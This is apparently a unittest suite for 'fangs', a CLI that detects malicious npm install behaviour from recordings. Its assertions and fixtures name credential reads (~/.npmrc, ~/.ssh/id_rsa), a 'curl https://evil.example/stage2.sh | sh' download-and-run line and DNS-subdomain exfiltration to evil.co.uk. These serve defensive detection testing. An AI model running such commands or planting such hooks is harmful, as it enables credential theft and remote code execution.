"""The fangs CLI as a user drives it: import recordings, read runs and
findings, promote, allowlist, reset, prune; exit codes and --json."""

import json
import os
import subprocess
import sys
import tempfile
import unittest

FANGS = os.environ.get("FANGS_CLI", "fangs")
ROOT = os.environ["FANGS_SOURCE_ROOT"]
REC = os.path.join(ROOT, "examples", "recordings")
RULE_REC = os.path.join(ROOT, "tests", "rules", "fixtures")


def rec(v):
    return os.path.join(REC, "example-banner-%s.ndjson" % v)


class CliTest(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.db = os.path.join(self.tmp.name, "fangs.db")

    def tearDown(self):
        self.tmp.cleanup()

    def fangs(self, *args, code=0, stdin=None):
        p = subprocess.run([FANGS, "--sqlite-path", self.db] + list(args), capture_output=True, text=True,
                           input=stdin, timeout=60)
        self.assertEqual(p.returncode, code, "fangs %s -> %d\nstdout: %s\nstderr: %s" %
                         (" ".join(args), p.returncode, p.stdout, p.stderr))
        return p

    def jfangs(self, *args, code=0):
        return json.loads(self.fangs("--json", *args, code=code).stdout)

    def import_all(self):
        a = self.jfangs("events", "import", rec("1.0.0"), "--package", "example-banner", "--version", "1.0.0")
        b = self.jfangs("events", "import", rec("1.0.1"), "-package", "example-banner", "-version", "1.0.1")
        # critical findings: exit 3, as --fail-on high is the default
        c = self.jfangs("events", "import", rec("1.1.0"), "--package=example-banner", "--version=1.1.0", code=3)
        return a, b, c

    def test_example_flow(self):
        a, b, c = self.import_all()
        self.assertEqual(a["baseline"], "seeded")
        self.assertEqual(a["deviations"], [])
        self.assertEqual(b["baseline"], "joined")
        self.assertEqual(b["deviations"], [], "noise-only release must not deviate")
        self.assertEqual(c["baseline"], "pending")
        kinds = sorted({d["kind"] for d in c["deviations"] if not d["kind"].startswith("rule:")})
        self.assertEqual(kinds, ["fs_cred_read", "net_new_destination", "net_new_dns", "net_new_https_host",
                                 "proc_new_exec"])
        rules = sorted({d["kind"] for d in c["deviations"] if d["kind"].startswith("rule:")})
        self.assertEqual(rules, ["rule:cred-read-by-script", "rule:detached-process", "rule:download-and-run",
                                 "rule:script-network-not-registry"])
        # rule hits come first, each with what it means
        first_dev = min(i for i, d in enumerate(c["deviations"]) if not d["kind"].startswith("rule:"))
        self.assertTrue(all(d["kind"].startswith("rule:") for d in c["deviations"][:first_dev]))
        self.assertTrue(all(d["description"] for d in c["deviations"][:first_dev]))
        by_value = {d["value"]: d for d in c["deviations"] if not d["kind"].startswith("rule:")}
        self.assertEqual(by_value["~/.npmrc"]["severity"], "critical")
        self.assertEqual(by_value["~/.npmrc"]["actor"], "script")
        self.assertEqual(by_value["~/.ssh/id_rsa"]["kind"], "fs_cred_read")
        dns = [d for d in c["deviations"] if d["kind"] == "net_new_dns"]
        self.assertEqual([d["value"] for d in dns], ["evil.example"])
        self.assertEqual(dns[0]["origin"]["script"], "postinstall")
        sh = [d for d in c["deviations"] if d["kind"] == "proc_new_exec" and "curl" in d["value"]]
        self.assertTrue(sh, "sh -c 'curl ... | sh' must deviate although /usr/bin/sh is in the baseline")
        self.assertEqual(sh[0]["origin"]["package"], "example-banner")
        self.assertTrue(all(d["evidence"] for d in c["deviations"]))

        # human output of the same data
        out = self.fangs("run", "show", c["run"]["id"]).stdout
        self.assertIn("fs_cred_read", out)
        self.assertIn("example-banner@1.1.0 postinstall", out)
        runs = self.jfangs("run", "list")
        self.assertEqual([r["version"] for r in runs], ["1.1.0", "1.0.1", "1.0.0"])
        self.assertEqual(self.jfangs("pending")[0]["id"], c["run"]["id"])
        table = self.fangs("run", "list").stdout.splitlines()
        self.assertTrue(table[0].startswith("RUN"))
        self.assertEqual(len(table), 4)

        devs = self.jfangs("deviation", "list", "--min-severity", "critical")
        self.assertEqual({d["kind"] for d in devs},
                         {"fs_cred_read", "rule:cred-read-by-script", "rule:download-and-run"})
        cred = [d for d in devs if d["kind"] == "fs_cred_read"]
        one = self.jfangs("deviation", "show", str(cred[0]["id"]))
        self.assertTrue(one["evidence_events"])
        self.assertEqual(one["evidence_events"][0]["kind"], "file_open")

        # promote clears the deviations and the run becomes the baseline
        self.fangs("baseline", "promote", c["run"]["id"])
        self.assertEqual(self.jfangs("deviation", "list", "--run", c["run"]["id"]), [])
        self.assertEqual(self.jfangs("pending"), [])
        base = self.jfangs("baseline", "list", "--package", "example-banner", "--fingerprints")
        self.assertTrue(any(f["value"] == "~/.npmrc" and f["actor"] == "script" for f in base))
        # what a person promoted is not reported again, by the differ nor by the rules
        again = self.jfangs("events", "import", rec("1.1.0"), "--package", "example-banner", "--version", "1.1.1")
        self.assertEqual(again["deviations"], [])

    def test_fail_on_exit_code(self):
        self.fangs("events", "import", rec("1.0.0"), "--package", "p", "--version", "1")
        self.fangs("events", "import", rec("1.1.0"), "--package", "p", "--version", "2", "--fail-on", "high", code=3)
        self.fangs("events", "import", rec("1.0.1"), "--package", "p", "--version", "3", "--fail-on", "high", code=0)
        # the default gate is high, as for scan and rules test
        self.fangs("events", "import", rec("1.1.0"), "--package", "p", "--version", "4", code=3)
        self.fangs("events", "import", rec("1.1.0"), "--package", "q", "--version", "1", "--fail-on", "critical",
                   code=3)
        self.fangs("rules", "test", os.path.join(RULE_REC, "hit-cred-read.ndjson"), code=3)
        # the content a release ships is info: under every default gate
        self.fangs("events", "import", rec("1.0.1"), "--package", "p", "--version", "5", code=0)

    def test_allowlist_suppresses(self):
        self.fangs("events", "import", rec("1.0.0"), "--package", "example-banner", "--version", "1.0.0")
        added = self.jfangs("allow", "add", "-kind", "dns", "-value", "example", "-package", "example-banner",
                            "-note", "test")
        self.assertGreater(added["id"], 0)
        self.jfangs("allow", "add", "-kind", "cidr", "-value", "203.0.113.0/24")
        c = self.jfangs("events", "import", rec("1.1.0"), "--package", "example-banner", "--version", "1.1.0",
                        code=3)
        kinds = {d["kind"] for d in c["deviations"]}
        self.assertNotIn("net_new_dns", kinds)
        self.assertNotIn("net_new_destination", kinds)
        self.assertIn("fs_cred_read", kinds)
        entries = self.jfangs("allow", "list")
        self.assertEqual(len(entries), 2)
        self.fangs("allow", "remove", str(added["id"]))
        self.assertEqual(len(self.jfangs("allow", "list")), 1)

    def test_package_reset_and_remove(self):
        self.import_all()
        pk = self.jfangs("package", "list")
        self.assertEqual(pk[0]["name"], "example-banner")
        self.assertEqual(pk[0]["run_count"], 3)
        self.fangs("package", "add", "example-banner")
        self.assertEqual(self.jfangs("package", "list", "--watched")[0]["watched"], True)
        self.fangs("package", "reset", "example-banner")
        self.assertEqual(self.jfangs("run", "list"), [])
        self.assertEqual(self.jfangs("deviation", "list"), [])
        self.assertTrue(self.jfangs("package", "list")[0]["watched"])
        # a first run that steals does not become the baseline: rules judge it
        a = self.jfangs("events", "import", rec("1.1.0"), "--package", "example-banner", "--version", "1.1.0",
                        code=3)
        self.assertEqual(a["baseline"], "pending")
        self.assertIn("rule:cred-read-by-script", {d["kind"] for d in a["deviations"]})
        self.assertFalse([d for d in a["deviations"] if not d["kind"].startswith("rule:")])
        self.fangs("package", "remove", "example-banner")
        self.assertEqual(self.jfangs("package", "list"), [])

    def test_prune_keeps_evidence(self):
        self.import_all()
        out = self.jfangs("prune", "--days", "1")
        self.assertEqual(out["events_deleted"], 0)

    def test_errors_and_usage(self):
        p = self.fangs(code=2)
        self.assertIn("usage", p.stderr)
        self.assertIn("Commands", self.fangs("--help").stdout)
        self.fangs("bogus", code=2)
        self.fangs("events", "import", rec("1.0.0"), code=2)  # no --package
        p = self.fangs("events", "import", "/nonexistent.ndjson", "--package", "x", "--version", "1", code=1)
        self.assertIn("/nonexistent.ndjson", p.stderr)
        bad = os.path.join(self.tmp.name, "bad.ndjson")
        with open(bad, "w") as f:
            f.write('{"kind":"exec","pid":1,"path":"/bin/sh"}\n{"kind":"exec","pid":"x","path":"/bin/sh"}\n')
        p = self.fangs("events", "import", bad, "--package", "x", "--version", "1", code=1)
        self.assertIn("line 2", p.stderr)
        self.assertFalse(os.path.exists(self.db), "a bad recording must leave nothing behind")
        p = self.fangs("run", "list", code=1)
        self.assertIn("no database at %s" % self.db, p.stderr)
        self.fangs("events", "import", rec("1.0.0"), "--package", "x", "--version", "1")
        p = self.fangs("run", "show", "nope", code=1)
        self.assertIn("no run 'nope'", p.stderr)
        self.fangs("deviation", "show", "abc", code=2)
        self.fangs("allow", "add", "-kind", "cidr", "-value", "300.1.1.1/8", code=2)
        self.fangs("allow", "add", "-kind", "color", "-value", "x", code=2)
        self.fangs("package", "add", "Bad Name!", code=2)
        self.fangs("run", "list", "--state", "sleeping", code=2)
        cfg = os.path.join(self.tmp.name, "c.yaml")
        with open(cfg, "w") as f:
            f.write("differ:\n  promote_after_clean_runs: 2\n  colour: red\n")
        p = self.fangs("--config", cfg, "run", "list", code=1)
        self.assertIn("c.yaml:3: colour", p.stderr)
        for cmd in (["events", "--help"], ["run", "--help"], ["deviation", "--help"], ["baseline", "--help"],
                    ["package", "--help"], ["allow", "--help"], ["prune", "--help"]):
            self.assertIn("usage", self.fangs(*cmd).stdout)

    def test_rules_commands(self):
        rules = self.jfangs("rules", "list")
        ids = [r["id"] for r in rules]
        self.assertIn("cred-read-by-script", ids)
        self.assertIn("dns-oob-exfil-service", ids)
        self.assertTrue(all(r["description"] and r["enabled"] and r["source"] == "builtin" for r in rules))
        table = self.fangs("rules", "list").stdout.splitlines()
        self.assertTrue(table[0].startswith("RULE"))
        self.assertEqual(len(table), len(rules) + 1)
        shown = self.fangs("rules", "show", "download-and-run").stdout
        self.assertIn("meaning:", shown)
        self.assertIn("argv:", shown)
        self.assertEqual(self.jfangs("rules", "show", "dns-tunnel-label")["severity"], "high")
        self.fangs("rules", "show", "no-such-rule", code=1)

        # trying rules on recordings: hits with evidence, exit 3 at or above --fail-on
        hit = os.path.join(RULE_REC, "hit-cred-read.ndjson")
        out = self.fangs("rules", "test", hit, code=3).stdout
        self.assertIn("rule:cred-read-by-script", out)
        self.assertIn("evidence #", out)
        self.assertIn("/root/.ssh/id_rsa", out)
        hits = self.jfangs("rules", "test", hit, "--fail-on", "critical", code=3)
        self.assertEqual({h["value"] for h in hits}, {"~/.ssh/id_rsa", "~/.aws/credentials"})
        self.assertTrue(all(h["description"] and h["evidence"] for h in hits))
        # nothing is stored by a test: not even a database is made
        self.assertFalse(os.path.exists(self.db))
        for benign in ("benign-node-gyp.ndjson", "benign-esbuild.ndjson", "benign-core-js.ndjson",
                       "benign-husky.ndjson"):
            p = self.fangs("rules", "test", os.path.join(RULE_REC, benign), "--fail-on", "medium")
            self.assertIn("no rule hits", p.stdout)
        net = os.path.join(RULE_REC, "hit-network.ndjson")
        with_reg = self.jfangs("rules", "test", net, "--registry", "https://registry.example/", code=3)
        without = self.jfangs("rules", "test", net, code=3)
        self.assertNotIn("registry.example", {h["value"] for h in with_reg})
        self.assertIn("registry.example", {h["value"] for h in without})

        # the configuration switches rules off, changes severities, adds rules
        cfg = os.path.join(self.tmp.name, "c.yaml")
        with open(cfg, "w") as f:
            f.write("rules:\n  disable: [cred-read-by-script]\n  severity: {proc-environ-other: low}\n"
                    "  add:\n    - id: aws-read\n      description: A script read AWS keys.\n"
                    "      severity: medium\n      match: {kind: file_open, actor: script, path: ~/.aws/*}\n")
        hits = self.jfangs("--config", cfg, "rules", "test", hit, "--fail-on", "high")
        self.assertEqual([(h["kind"], h["severity"]) for h in hits], [("rule:aws-read", "medium")])
        listed = {r["id"]: r for r in self.jfangs("--config", cfg, "rules", "list")}
        self.assertFalse(listed["cred-read-by-script"]["enabled"])
        self.assertEqual(listed["aws-read"]["source"], cfg)
        with open(cfg, "w") as f:
            f.write("rules:\n  add:\n    - id: loud\n      description: d\n      severity: deafening\n"
                    "      match: {kind: exec}\n")
        p = self.fangs("--config", cfg, "rules", "list", code=1)
        self.assertIn("c.yaml:5: rule loud: severity", p.stderr)

    def test_first_run_with_rule_hit_is_held(self):
        first = self.jfangs("events", "import", os.path.join(RULE_REC, "hit-download-run.ndjson"),
                            "--package", "dl-run", "--version", "1.0.0", "--fail-on", "critical", code=3)
        self.assertEqual(first["baseline"], "pending")
        self.assertIn("rule:download-and-run", {d["kind"] for d in first["deviations"]})
        self.assertTrue(all(d["kind"].startswith("rule:") for d in first["deviations"]))
        self.assertEqual(self.jfangs("pending")[0]["id"], first["run"]["id"])
        human = self.fangs("run", "show", first["run"]["id"]).stdout
        self.assertIn("rule:download-and-run", human)
        self.assertIn("rule hit", self.fangs("events", "import", os.path.join(RULE_REC, "hit-oob.ndjson"),
                                             "--package", "oast-ping", "--version", "1.0.0", code=3).stdout)
        out = self.fangs("events", "import", os.path.join(RULE_REC, "benign-node-gyp.ndjson"),
                         "--package", "native-addon", "--version", "2.1.0").stdout
        self.assertIn("seeded", out)

    def test_one_finding_per_behaviour(self):
        """example-banner 1.1.0 does five things: reads ~/.npmrc, reads
        ~/.ssh/id_rsa, runs sh -c "curl | sh", runs curl, talks to
        evil.example. Its 13 records (7 deviations, 6 rule hits) are five
        findings, and the verdict counts those."""
        self.import_all()
        self.fangs("package", "reset", "example-banner")
        self.fangs("events", "import", rec("1.0.0"), "--package", "example-banner", "--version", "1.0.0")
        p = self.fangs("events", "import", rec("1.1.0"), "--package", "example-banner", "--version", "1.1.0",
                       code=3)
        self.assertIn("verdict: 5 findings (7 deviations, 6 rule hits), highest severity critical", p.stdout)
        self.assertEqual(sum(1 for line in p.stdout.splitlines() if line.startswith("  [")), 5, p.stdout)
        run_id = p.stdout.split()[1].rstrip(":")
        c = self.jfangs("run", "show", run_id)
        self.assertEqual(c["counts"], {"findings": 5, "deviations": 7, "rule_hits": 6})
        self.assertEqual(len(c["deviations"]), 13, "the raw records are all still there")
        found = {(f["value"], frozenset(f["labels"])): f for f in c["findings"]}
        self.assertEqual(set(found), {
            ("~/.npmrc", frozenset({"fs_cred_read", "rule:cred-read-by-script"})),
            ("~/.ssh/id_rsa", frozenset({"fs_cred_read", "rule:cred-read-by-script"})),
            ("sh -c curl -s https://evil.example/stage2.sh | sh",
             frozenset({"proc_new_exec", "rule:download-and-run", "rule:detached-process"})),
            ("/usr/bin/curl", frozenset({"proc_new_exec"})),
            ("evil.example", frozenset({"net_new_dns", "net_new_https_host", "net_new_destination",
                                        "rule:script-network-not-registry"})),
        })
        net = found[("evil.example", frozenset({"net_new_dns", "net_new_https_host", "net_new_destination",
                                                "rule:script-network-not-registry"}))]
        self.assertEqual(net["domain"], "evil.example")
        self.assertTrue(net["network"])
        self.assertEqual(sorted(net["values"]), ["203.0.113.7:443/tcp", "evil.example"])
        self.assertEqual(net["severity"], "high")
        npmrc = found[("~/.npmrc", frozenset({"fs_cred_read", "rule:cred-read-by-script"}))]
        self.assertEqual((npmrc["severity"], npmrc["kind"]), ("critical", "rule:cred-read-by-script"))
        self.assertEqual(npmrc["origin"]["script"], "postinstall")
        self.assertTrue(npmrc["description"])
        # every record is in exactly one finding
        ids = sorted(i for f in c["findings"] for i in f["deviation_ids"])
        self.assertEqual(ids, sorted(d["id"] for d in c["deviations"]))
        self.assertEqual(len(self.jfangs("deviation", "list", "--run", run_id, "--findings")), 5)
        self.fangs("deviation", "list", "--findings", code=2)
        cred = [d for d in c["deviations"] if d["kind"] == "fs_cred_read" and d["value"] == "~/.npmrc"][0]
        shown = self.jfangs("deviation", "show", str(cred["id"]))
        self.assertEqual(set(shown["finding"]["labels"]), {"fs_cred_read", "rule:cred-read-by-script"})
        self.assertIn("one behaviour with", self.fangs("deviation", "show", str(cred["id"])).stdout)

    def test_exfiltration_over_subdomains_is_one_finding(self):
        """21 DNS lookups of subdomains of one name, each a new name and a rule
        hit, are one finding that lists the names; a second domain is a
        second finding."""
        self.fangs("events", "import", rec("1.0.0"), "--package", "example-banner", "--version", "1.0.0")
        with open(rec("1.0.0")) as f:
            lines = f.read().splitlines()
        origin = {"package": "example-banner", "version": "1.2.0", "script": "postinstall",
                  "command": "node scripts/postinstall.js"}
        names = ["%02x.c%d.exfil.evil.co.uk" % (i * 7, i) for i in range(21)]
        for i, name in enumerate(names + ["beacon.other.co.uk"]):
            lines.append(json.dumps({"kind": "dns_query", "ts_ns": 1763900000030000000 + i, "pid": 4109,
                                     "ppid": 4108, "comm": "node", "qname": name, "qtype": "A", "family": "ipv4",
                                     "addr": "127.0.0.53", "port": 53, "proto": "udp", "origin": origin}))
        exfil = os.path.join(self.tmp.name, "exfil.ndjson")
        with open(exfil, "w") as f:
            f.write("\n".join(lines).replace('"version":"1.0.0"', '"version":"1.2.0"') + "\n")
        out = self.jfangs("events", "import", exfil, "--package", "example-banner", "--version", "1.2.0", code=3)
        # a rule hit for each name, and dns-many-subdomains for the lot
        self.assertEqual(out["counts"], {"findings": 2, "deviations": 22, "rule_hits": 23})
        [f, other] = out["findings"]
        if f["domain"] != "evil.co.uk":
            f, other = other, f
        self.assertEqual(f["domain"], "evil.co.uk")
        self.assertEqual(f["value"], "evil.co.uk")
        self.assertEqual(sorted(f["values"]), sorted(names))
        self.assertEqual(set(f["labels"]), {"net_new_dns", "rule:script-network-not-registry",
                                            "rule:dns-many-subdomains"})
        self.assertEqual(f["severity"], "high")
        self.assertEqual((other["domain"], other["value"]), ("other.co.uk", "beacon.other.co.uk"))
        human = self.fangs("run", "show", out["run"]["id"]).stdout
        self.assertIn("findings:   2 findings (22 deviations, 23 rule hits)", human)
        self.assertIn("evil.co.uk (21 names)", human)
        self.assertIn("(+13 more)", human)

    def test_cold_start_k_runs(self):
        cfg = os.path.join(self.tmp.name, "k.yaml")
        with open(cfg, "w") as f:
            f.write("differ:\n  promote_after_clean_runs: 2\n")
        a = json.loads(self.fangs("--config", cfg, "--json", "events", "import", rec("1.0.0"), "--package", "p",
                                  "--version", "1").stdout)
        self.assertEqual(a["baseline"], "pending")
        b = json.loads(self.fangs("--config", cfg, "--json", "events", "import", rec("1.0.1"), "--package", "p",
                                  "--version", "2").stdout)
        self.assertEqual(b["baseline"], "seeded")
        self.assertEqual(len(self.jfangs("baseline", "list", "--package", "p")), 2)

    def test_promote_adds_and_replace(self):
        def imp(name, version, code=0):
            return self.jfangs("events", "import", os.path.join(RULE_REC, name), "--package", "p", "--version",
                               version, code=code)

        def fingerprints():
            return {(f["kind"], f["actor"], f["value"])
                    for f in self.jfangs("baseline", "list", "--package", "p", "--fingerprints")}

        seed = imp("benign-node-gyp.ndjson", "1")
        self.assertEqual(seed["baseline"], "seeded")
        seeded = fingerprints()
        a = imp("hit-cred-read.ndjson", "2", code=3)
        b = imp("hit-network.ndjson", "3", code=3)
        self.assertEqual((a["baseline"], b["baseline"]), ("pending", "pending"))
        self.assertEqual(len(self.jfangs("pending")), 2)

        out = self.fangs("baseline", "promote", a["run"]["id"]).stdout
        self.assertIn("added to the baseline", out)
        after_a = fingerprints()
        self.assertTrue(seeded < after_a, "promote must add to the baseline, not replace it")
        self.assertIn(("fs_read", "script", "~/.ssh/id_rsa"), after_a - seeded)
        self.assertEqual(self.jfangs("baseline", "promote", b["run"]["id"]),
                         {"promoted": b["run"]["id"], "package": "p", "replaced": False})
        after_b = fingerprints()
        self.assertTrue(after_a < after_b, "a second promote keeps the first one's fingerprints")
        self.assertEqual(sorted(r["version"] for r in self.jfangs("baseline", "list", "--package", "p")),
                         ["1", "2", "3"])
        self.assertEqual(self.jfangs("pending"), [])
        runs = {r["id"]: r for r in self.jfangs("run", "list")}
        self.assertEqual(runs[a["run"]["id"]]["review"], "promoted")
        self.assertEqual(runs[a["run"]["id"]]["deviation_count"], 0)

        # --replace: the old meaning, the run alone
        self.fangs("baseline", "promote", "--replace", a["run"]["id"])
        self.assertEqual([r["version"] for r in self.jfangs("baseline", "list", "--package", "p")], ["2"])
        self.assertTrue(seeded - fingerprints(), "the seed's own fingerprints left with --replace")
        # usage
        self.fangs("baseline", "promote", code=2)
        self.fangs("baseline", "promote", "--nope", a["run"]["id"], code=2)
        err = self.fangs("baseline", "promote", "r-no-such-run", code=1).stderr
        self.assertIn("r-no-such-run", err)

    def test_stdin_import(self):
        with open(rec("1.0.0")) as f:
            data = f.read()
        a = json.loads(self.fangs("--json", "events", "import", "-", "--package", "p", "--version", "1",
                                  stdin=data).stdout)
        self.assertEqual(a["run"]["event_count"], 27)


if __name__ == "__main__":
    unittest.main(verbosity=2)
